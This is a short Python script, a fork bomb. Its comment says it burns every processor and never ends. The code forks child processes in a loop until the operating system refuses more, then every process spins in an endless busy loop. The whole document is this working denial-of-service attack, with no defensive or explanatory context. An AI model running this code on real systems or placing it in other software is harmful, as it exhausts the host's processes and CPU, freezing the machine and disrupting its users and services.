# Burns every processor in more processes than it may have, and does not end.
import os
try:
    while True:
        if os.fork() == 0:
            break
except OSError:
    pass
while True:
    pass
